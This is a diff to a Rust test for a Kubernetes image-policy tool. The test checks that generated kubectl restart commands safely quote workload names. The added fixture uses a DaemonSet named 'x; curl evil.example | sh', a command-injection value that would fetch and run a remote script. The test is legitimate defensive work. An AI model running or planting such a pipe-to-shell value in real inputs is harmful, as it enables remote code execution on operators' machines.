@@ -84,6 +84,7 @@ fn workloads_are_named_by_what_can_be_restarted_and_counted_where_they_are_many(
         pod("web-5d4f-def".to_owned(), owner("ReplicaSet", "web-5d4f")),
         pod("db-0".to_owned(), owner("StatefulSet", "db")),
         pod("once-x".to_owned(), owner("Job", "once")),
+        pod("hostile-1".to_owned(), owner("DaemonSet", "x; curl evil.example | sh")),
     ];
     pods.extend((0..30).map(|number| pod(format!("bare-{number:02}"), json!([]))));
     let (policy, _) = pullgate::config::load_policy([("REGISTRY".into(), "r.example".into())]).unwrap();
@@ -98,7 +99,7 @@ fn workloads_are_named_by_what_can_be_restarted_and_counted_where_they_are_many(
     let report = examine(&seen);
     let escaped: Vec<_> = report.findings.iter().filter(|finding| finding.check == "escaped").collect();
     assert_eq!(escaped.len(), 21);
-    assert!(escaped[20].problem.starts_with("and 13 more workloads"), "{}", escaped[20].problem);
+    assert!(escaped[20].problem.starts_with("and 14 more workloads"), "{}", escaped[20].problem);
     let mend = |title: &str| {
         let found = escaped.iter().find(|finding| finding.problem.starts_with(title));
         found.map_or("", |finding| finding.mend.as_str())
@@ -108,5 +109,9 @@ fn workloads_are_named_by_what_can_be_restarted_and_counted_where_they_are_many(
         "kubectl --namespace shop rollout restart deployment/web"
     );
     assert_eq!(mend("Job shop/once: 2 images"), "kubectl --namespace shop delete pod once-x");
+    assert_eq!(
+        mend("DaemonSet shop/x; curl"),
+        "kubectl --namespace shop rollout restart 'daemonset/x; curl evil.example | sh'"
+    );
     assert!(mend("Pod shop/bare-00: 2 images").ends_with("kubectl replace --force -f -"));
 }
